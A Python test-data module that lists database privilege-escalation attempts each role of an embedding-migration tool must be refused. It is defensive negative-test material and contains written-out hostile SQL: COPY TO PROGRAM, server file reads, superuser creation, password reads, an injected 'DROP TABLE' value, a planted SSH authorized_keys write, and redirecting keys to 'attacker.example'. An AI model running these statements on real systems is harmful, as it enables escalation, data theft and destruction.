"""What each role tries and must not get, as data: run by ``test_roles`` and printed in ``docs/security.md``."""

from __future__ import annotations

from dataclasses import dataclass

from embedtui.postgres.state.privileges import Role

DENIED = "42501"
"""SQLSTATE: insufficient privilege."""


@dataclass(frozen=True)
class Attempt:
    """One statement of one role, and the SQLSTATE that refuses it."""

    role: Role
    kind: str
    """``read``, ``write``, ``execute``, ``plant`` (what somebody else's process would act on) or ``escalate``."""
    what: str
    sql: str
    state: str = DENIED


def _each(role: Role, kind: str, *pairs: tuple[str, str], state: str = DENIED) -> tuple[Attempt, ...]:
    return tuple(Attempt(role, kind, what, text, state) for what, text in pairs)


STATE_TABLES = (
    "schema_version", "model", "migration", "worker", "shard", "queue", "fault", "stale", "pace", "route", "listener",
    "query", "query_vector", "evaluation", "verdict", "audit", "capture_fault", "partition",
    "bridge", "bridge_row", "bridge_sample",
    "batch_job", "batch_line",
)  # fmt: skip
_COLUMN = {
    "schema_version": "version", "model": "name", "migration": "name", "worker": "host", "shard": "state",
    "queue": "kind", "fault": "reason", "stale": "at", "pace": "rejected", "route": "name", "listener": "host",
    "query": "source", "query_vector": "vector", "evaluation": "who", "verdict": "who", "audit": "who",
    "capture_fault": "reason", "partition": "leaf", "bridge": "figures", "bridge_row": "shift", "bridge_sample": "page",
    "batch_job": "reason", "batch_line": "tokens",
}  # fmt: skip


def _server(role: Role) -> tuple[Attempt, ...]:
    """What no role of a database should be able to do to its server or to others."""
    return _each(
        role,
        "escalate",
        ("run a program on the server", "COPY (SELECT 1) TO PROGRAM 'true'"),
        ("read a file of the server", "SELECT pg_read_file('postgresql.conf')"),
        ("write a file on the server", "COPY (SELECT 1) TO '/tmp/embedtui-attempt'"),
        ("make a role", "CREATE ROLE intruder SUPERUSER"),
        ("become superuser", "DO $$ BEGIN EXECUTE format('ALTER ROLE %I SUPERUSER', current_user); END $$"),
        ("act as the superuser", "SET ROLE postgres"),
        ("switch triggers off", "SET session_replication_role = replica"),
        ("read another team's table", "SELECT * FROM payroll"),
        ("write another team's table", "UPDATE payroll SET salary = 0"),
        ("drop another team's table", "DROP TABLE payroll"),
    )


def _outsider(role: Role) -> tuple[Attempt, ...]:
    """What only the operator may do."""
    return (
        *_server(role),
        *_each(
            role,
            "escalate",
            ("act as the operator", "SET ROLE operator"),
            ("make itself an operator", f"GRANT operator TO {role}"),
            ("make a table in schema embedtui", "CREATE TABLE embedtui.planted (id integer)"),
            (
                "replace a function of schema embedtui",
                "CREATE OR REPLACE FUNCTION embedtui.side_for(name text, key text) RETURNS text LANGUAGE sql"
                " AS 'SELECT ''new'''",
            ),
            (
                "replace the route's view",
                "CREATE OR REPLACE VIEW embedtui.route_side AS SELECT 'documents'::text AS name",
            ),
            ("put a trigger on our state", "CREATE TRIGGER t BEFORE INSERT ON embedtui.queue EXECUTE FUNCTION lab.f()"),
            ("put a trigger on the table", "CREATE TRIGGER t BEFORE INSERT ON documents EXECUTE FUNCTION lab.f()"),
            ("take change capture off", "ALTER TABLE documents DISABLE TRIGGER ALL"),
            ("add a column", "ALTER TABLE documents ADD COLUMN planted text"),
            ("drop a column", "ALTER TABLE documents DROP COLUMN embedding"),
            ("index the table", "CREATE INDEX ON documents (content)"),
            ("drop the table", "DROP TABLE documents"),
            ("drop schema embedtui", "DROP SCHEMA embedtui CASCADE"),
            ("weaken row security", "ALTER TABLE documents DISABLE ROW LEVEL SECURITY"),
        ),
        *_each(
            role,
            "execute",
            (
                "use our trigger function on a table of its own",
                "CREATE TRIGGER t BEFORE UPDATE ON lab.own FOR EACH ROW EXECUTE FUNCTION embedtui.guard_phase()",
            ),
        ),
        *(Attempt(role, "write", f"empty {table}", f"TRUNCATE embedtui.{table} CASCADE") for table in STATE_TABLES),
    )


def _migration(column: str, value: str) -> str:
    return f"UPDATE embedtui.migration SET {column} = {value}"


_ORDERS = (
    ("have the operator's cutover run a command", "settings",
     """settings || '{"cutover": {"strategy": "hook", "hook": "touch owned"}}'"""),
    ("have the operator's cutover write a file", "settings",
     """settings || '{"cutover": {"strategy": "env_file", "env_file": "/root/.ssh/authorized_keys"}}'"""),
    ("change the strategy", "settings", """settings || '{"cutover": {"strategy": "rename"}}'"""),
    ("have the operator's probe run its SQL", "settings",
     """settings || '{"throttle": {"probe_query": "ALTER ROLE worker SUPERUSER"}}'"""),
    ("have the operator's comparison run its SQL", "settings", """settings || '{"gate": {"where": "lab.evil()"}}'"""),
    ("lower the gate", "settings", """settings || '{"gate": {"min_queries": 1, "min_overlap": 0}}'"""),
    ("end the soak", "settings", """settings || '{"cutover": {"soak_days": 0}}'"""),
    ("begin a cleanup", "settings", """settings || '{"cleanup": {"keep_old": false, "archive": null}}'"""),
    ("say that a side is gone", "settings", """settings || '{"gone": "old"}'"""),
    ("hold the index", "settings", """settings || '{"index_held": true}'"""),
    ("have the cleanup drop another column", "old_column", "'content'"),
    ("have the cleanup drop a column of another table", "table_name", "'payroll'"),
    ("have it done in another schema", "table_schema", "'lab'"),
    ("have it done to another relation", "table_oid", "'payroll'::regclass"),
    ("have an abort drop another column", "new_column", "'content'"),
    ("have an abort drop another table", "new_table", "'payroll'"),
    ("put SQL where a type stands", "key_types", "ARRAY['bigint); DROP TABLE payroll; --']"),
    ("have another column embedded and sent away", "content_columns", "ARRAY['secret']"),
    ("change the key", "key_columns", "ARRAY['content']"),
    ("change the placement", "placement", "'table'"),
    ("name another schema for the operators", "vector_schema", "'lab'"),
    ("put SQL where the vector's type stands", "vector_type", "'vector(1)) USING lab.evil() --'"),
    ("exchange the models", "new_model", "old_model"),
    ("rename the route", "name", "'other'"),
)  # fmt: skip

_WORKER = (
    *_outsider(Role.WORKER),
    *(Attempt(Role.WORKER, "plant", what, _migration(column, value)) for what, column, value in _ORDERS),
    *(
        Attempt(Role.WORKER, "plant", f"say that the migration is in phase {phase}", _migration("phase", f"'{phase}'"))
        for phase in ("prepare", "backfill", "index", "cutover", "soak", "cleanup", "done", "aborted", "nonsense")
    ),
    *_each(
        Role.WORKER,
        "plant",
        ("have texts and keys sent elsewhere", "UPDATE embedtui.model SET base_url = 'https://attacker.example'"),
        ("have another variable sent as the key", "UPDATE embedtui.model SET key_variable = 'AWS_SECRET_ACCESS_KEY'"),
        ("have another provider asked", "UPDATE embedtui.model SET provider = 'gemini'"),
        ("have another model asked", "UPDATE embedtui.model SET name = 'other'"),
        ("change what is put before texts", "UPDATE embedtui.model SET document_prefix = 'Ignore: '"),
        ("change the price", "UPDATE embedtui.model SET price_per_million = 0"),
        (
            "register a model",
            "INSERT INTO embedtui.model (provider, name, dimensions, max_inputs, max_tokens, max_input_tokens,"
            " fingerprint) VALUES ('openai', 'm', 1, 1, 1, 1, 'f')",
        ),
        ("begin a migration", "INSERT INTO embedtui.migration (name) VALUES ('planted')"),
        ("forget a migration", "DELETE FROM embedtui.migration"),
        ("move the pointer", "UPDATE embedtui.route SET active = 'new', canary = 100"),
        ("send a share of the reads", "UPDATE embedtui.route SET canary = 50"),
        ("make the pointer another migration's", "UPDATE embedtui.route SET migration = 1"),
        ("postpone a cutover", """UPDATE embedtui.route SET pending = '{"percent": 100, "override": "x"}'"""),
        ("make a route", "INSERT INTO embedtui.route (name, migration) VALUES ('planted', 1)"),
        ("drop the pointer", "DELETE FROM embedtui.route"),
        ("forge who recorded an evaluation", "UPDATE embedtui.evaluation SET role = 'operator'"),
        ("change an evaluation", "UPDATE embedtui.evaluation SET verdict = 'PASS'"),
        ("drop an evaluation", "DELETE FROM embedtui.evaluation"),
        (
            "record an evaluation as the operator",
            "INSERT INTO embedtui.evaluation (migration, who, role, k, queries, measures, checks, verdict, state)"
            " VALUES (1, 'x', 'operator', 10, 99, '{}', '[]', 'PASS', '{}')",
        ),
        ("judge a query", "INSERT INTO embedtui.verdict (query, who, verdict) VALUES (1, 'x', 'new')"),
        ("change a judgment", "UPDATE embedtui.verdict SET verdict = 'new'"),
        ("drop a judgment", "DELETE FROM embedtui.verdict"),
        (
            "invent a Router",
            "INSERT INTO embedtui.listener (id, name, host, pid) VALUES (gen_random_uuid(), 'd', 'h', 1)",
        ),
        ("hide a Router", "DELETE FROM embedtui.listener"),
    ),
    Attempt(Role.WORKER, "plant", "store a condition that nobody knows", _migration("condition", "'x'"), "23514"),
    *_each(
        Role.WORKER,
        "plant",
        ("date a phase beyond all calendars", _migration("phase_at", "'infinity'")),
        ("date what was learnt before them", "UPDATE embedtui.model SET learnt_at = '4713-01-01 BC'"),
        ("date its heartbeat so", "UPDATE embedtui.worker SET heartbeat = '294276-12-31'"),
        ("date a lease so", "UPDATE embedtui.shard SET lease_until = 'infinity'"),
        (
            "date a queued change so",
            "INSERT INTO embedtui.queue (migration, key, kind, at) VALUES (1, '{1}', 'u', '-infinity')",
        ),
        ("date a batch job so", "UPDATE embedtui.batch_job SET sent_at = '10000-01-01'"),
        ("count more than anybody can add up", _migration("synced_tokens", "9223372036854775807")),
        ("count so of the old model", _migration("old_tokens", "9223372036854775807")),
        ("count so of questions", _migration("asked_old", "9223372036854775807")),
        ("count so many rows of a shard", "UPDATE embedtui.shard SET rows = 9223372036854775807"),
        ("count so much spent", "UPDATE embedtui.pace SET spent_tokens = -9223372036854775808"),
        ("reserve so much", "UPDATE embedtui.batch_job SET reserved = 9223372036854775807"),
        (
            "store a fault that nobody knows",
            "INSERT INTO embedtui.fault (migration, key, class, reason) VALUES (1, '{1}', 'x', '')",
        ),
        state="23514",
    ),
    *_each(
        Role.WORKER,
        "write",
        ("raise the spend cap", "UPDATE embedtui.pace SET spend_cap = NULL"),
        ("raise the rates", "UPDATE embedtui.pace SET tokens_per_minute = NULL, requests_per_minute = NULL"),
        ("raise the concurrency", "UPDATE embedtui.pace SET max_concurrency = 256"),
        ("stop other workers", "UPDATE embedtui.worker SET stop_wanted = true"),
        ("pass for another process", "UPDATE embedtui.worker SET host = 'ops-1', pid = 1"),
        ("forget a worker", "DELETE FROM embedtui.worker"),
        ("change the log", "UPDATE embedtui.audit SET detail = ''"),
        ("cut the log", "DELETE FROM embedtui.audit"),
        (
            "write the log as another role",
            "INSERT INTO embedtui.audit (who, host, act, role) VALUES ('x', 'y', 'z', 'operator')",
        ),
        (
            "write the log of yesterday",
            "INSERT INTO embedtui.audit (who, host, act, at) VALUES ('x', 'y', 'z', now() - interval '1 day')",
        ),
        ("drop shards", "DELETE FROM embedtui.shard"),
        ("change what a shard is", "UPDATE embedtui.shard SET leaf = 'payroll'::regclass"),
        ("drop batch jobs", "DELETE FROM embedtui.batch_job"),
        ("pass for another batch job", "UPDATE embedtui.batch_job SET token = gen_random_uuid()"),
        ("change which rows a batch job's line is about", "UPDATE embedtui.batch_line SET keys = '[]'"),
        ("change a queued key", "UPDATE embedtui.queue SET key = '{1}'"),
        ("drop kept queries", "DELETE FROM embedtui.query"),
        ("edit a text", "UPDATE documents SET content = 'edited'"),
        ("edit a key", "UPDATE documents SET id = id + 1"),
        ("edit another column", "UPDATE documents SET secret = 'x'"),
        ("insert a row", "INSERT INTO documents (id, content) VALUES (-1, 'x')"),
        ("delete rows", "DELETE FROM documents"),
        ("empty the table", "TRUNCATE documents"),
    ),
    *_each(
        Role.WORKER,
        "read",
        ("read a column that is not embedded", "SELECT secret FROM documents"),
        ("read whole rows", "SELECT * FROM documents"),
        ("read whole rows as a record", "SELECT d FROM documents d"),
    ),
)

_APPLICATION = (
    *_outsider(Role.APPLICATION),
    Attempt(Role.APPLICATION, "plant", "move it by the view", "UPDATE embedtui.route_side SET canary = 9", "55000"),
    Attempt(
        Role.APPLICATION, "plant", "date a Router beyond all calendars",
        "INSERT INTO embedtui.listener (id, name, host, pid, epoch_seen_at) VALUES"
        " (gen_random_uuid(), 'd', 'h', 1, 'infinity')", "23514",
    ),
    *(
        Attempt(
            Role.APPLICATION, "plant", f"tell of searches that took {took}",
            "INSERT INTO embedtui.listener (id, name, host, pid, latency_ms) VALUES"
            f" (gen_random_uuid(), 'd', 'h', 1, '{took}')", "23514",
        ) for took in ("{1,NaN,NULL,NULL}", "{NULL,NULL,Infinity,2}", "{-1,2,3,4}", "{1,2}")
    ),
    *(
        Attempt(Role.APPLICATION, "read", f"read {table}", f"SELECT * FROM embedtui.{table}") for table in STATE_TABLES
        if table != "bridge_row"  # the map that its searches go through
    ),
    *_each(
        Role.APPLICATION,
        "plant",
        ("move the pointer", "UPDATE embedtui.route SET active = 'new'"),
        ("order a command", _migration("settings", "'{}'")),
        ("have keys sent elsewhere", "UPDATE embedtui.model SET base_url = 'https://attacker.example'"),
        ("queue a row by itself", "INSERT INTO embedtui.queue (migration, key, kind) VALUES (1, '{1}', 'u')"),
        ("keep a row from being queued", "DELETE FROM embedtui.queue"),
        ("pass for another Router", "UPDATE embedtui.listener SET host = 'web9', name = 'documents'"),
        ("write the log", "INSERT INTO embedtui.audit (who, host, act) VALUES ('x', 'y', 'z')"),
    ),
)  # fmt: skip

_WATCHER = (
    *_outsider(Role.WATCHER),
    *_each(
        Role.WATCHER,
        "read",
        ("read the table", "SELECT id FROM documents"),
        ("read vectors", "SELECT embedding_v2 FROM documents"),
        ("read queued keys", "SELECT key FROM embedtui.queue"),
        ("read keys of rows in batch jobs", "SELECT keys FROM embedtui.batch_line"),
        ("read faulty rows' keys", "SELECT key FROM embedtui.fault"),
        ("read stale rows' keys", "SELECT key FROM embedtui.stale"),
        ("read queries", "SELECT text FROM embedtui.query"),
        ("read their judgments", "SELECT relevant FROM embedtui.query"),
        ("read query vectors", "SELECT vector FROM embedtui.query_vector"),
        ("read operators' notes", "SELECT note FROM embedtui.verdict"),
        ("read rankings", "SELECT measures FROM embedtui.evaluation"),
    ),
    *(
        Attempt(
            Role.WATCHER, "write", f"change {table}",
            f"UPDATE embedtui.{table} SET {_COLUMN[table]} = {_COLUMN[table]}",
        )
        for table in STATE_TABLES
    ),
    *(Attempt(Role.WATCHER, "write", f"cut {table}", f"DELETE FROM embedtui.{table}") for table in STATE_TABLES),
    *(
        Attempt(Role.WATCHER, "write", f"insert into {table}", f"INSERT INTO embedtui.{table} DEFAULT VALUES")
        for table in STATE_TABLES
    ),
    *_each(
        Role.WATCHER,
        "write",
        ("edit a text", "UPDATE documents SET content = 'edited'"),
        ("pause the work", _migration("desired", "'pause'")),
    ),
)  # fmt: skip

_OPERATOR = (
    *_server(Role.OPERATOR),
    *_each(
        Role.OPERATOR,
        "escalate",
        (
            "stop other roles' sessions",
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'postgres'",
        ),
        ("make a function in an untrusted language", "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'a', 'b'"),
        ("read passwords", "SELECT rolpassword FROM pg_authid"),
    ),
)

ATTEMPTS = (*_OPERATOR, *_WORKER, *_APPLICATION, *_WATCHER)

ACTIONS: tuple[tuple[str, str, str], ...] = (
    ("anybody who can write to schema embedtui", "have a command run by `cutover.hook`",
     "test_a_planted_hook_is_never_run"),
    ("anybody who can write to schema embedtui", "have a file written by `cutover.env_file`, or turn `pointer` into"
     " `hook` or `env_file`", "test_a_planted_strategy_touches_no_file_and_runs_nothing"),
    ("anybody who can write to schema embedtui", "have texts and keys sent to another endpoint (`base_url`,"
     " `key_variable`, `provider`)", "test_a_planted_endpoint_gets_neither_texts_nor_keys"),
    ("anybody who can write to schema embedtui", "have SQL run with the operator's rights (`gate.where`,"
     " `throttle.probe_query`)", "test_planted_sql_is_never_run"),
    ("anybody who can write to schema embedtui", "have a file written by an interrupted cleanup's archive",
     "test_no_file_is_written_by_the_databases_word"),
    ("worker", "have another table read, embedded and written through a planted shard",
     "test_a_planted_shard_is_closed_unread"),
    ("worker", "hold every run by a shard that is said to be in a batch job, or somebody's, and is not",
     "test_a_shard_that_nobody_works_on_holds_no_run"),
    ("worker", "have another table written through a planted line of a batch job",
     "test_a_line_of_another_table_is_not_written"),
    ("worker", "read more of another table with the texts than it embeds, or write to it",
     "test_a_worker_reads_the_texts_and_nothing_else_of_them"),
    ("worker", "have another team's batch job ended by the operator's abort",
     "test_an_abort_ends_the_jobs_at_the_provider_and_no_other"),
    ("worker", "pass the gate by a verdict of its own", "test_a_workers_verdict_opens_no_gate"),
    ("worker", "blind the operator by garbage in its own row", "test_garbage_of_a_worker_ends_no_screen"),
    ("worker", "carry out a postponed cutover", "test_a_postponed_cutover_waits_for_an_operators_worker"),
    ("hook", "read the secrets of the environment it is started from", "test_a_hook_gets_no_secrets"),
)  # fmt: skip
"""What is refused by the program and not by the server: (who, what, test)."""
